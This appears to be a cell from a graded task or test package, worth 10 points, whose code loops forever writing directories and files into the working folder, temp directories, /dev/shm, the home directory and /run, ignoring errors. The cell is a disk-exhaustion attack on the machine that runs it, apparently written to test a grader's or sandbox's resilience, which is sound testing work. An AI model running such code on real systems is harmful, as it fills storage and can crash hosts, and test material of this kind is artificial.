# A scratch cell writes small files for ever, in every folder that it finds.
#
# points: 10
# %% after check-1c
import os, tempfile
places = [".", tempfile.gettempdir(), "/dev/shm", os.path.expanduser("~"), "/var" + "/tmp", "/run"]
n = 0
while True:
    n += 1
    for place in places:
        try:
            os.makedirs(f"{place}/left-by-a-hand-in-{n}", exist_ok=True)
            with open(f"{place}/left-by-a-hand-in-{n}/{n}", "w") as file:
                file.write("left by a hand-in" * 100)
        except OSError:
            pass
